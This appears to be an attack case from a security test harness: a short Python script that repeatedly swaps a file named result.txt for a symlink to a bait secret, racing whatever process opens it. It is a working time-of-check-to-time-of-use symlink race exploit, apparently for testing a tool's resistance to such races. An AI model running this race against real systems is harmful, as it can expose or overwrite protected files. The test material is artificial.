# Exchange a file for a link while it is brought out.
# limits: timeout=5
import os
import threading

from attack_kit import BAIT, held


def exchange():
    number = 0
    while True:
        number += 1
        try:
            os.symlink(BAIT["tmp_secret"], f"link{number % 10}")
            os.replace(f"link{number % 10}", "result.txt")
            open("result.new", "w").write("x")
            os.replace("result.new", "result.txt")
        except OSError:
            pass


open("result.txt", "w").write("x")
threading.Thread(target=exchange, daemon=True).start()
held()
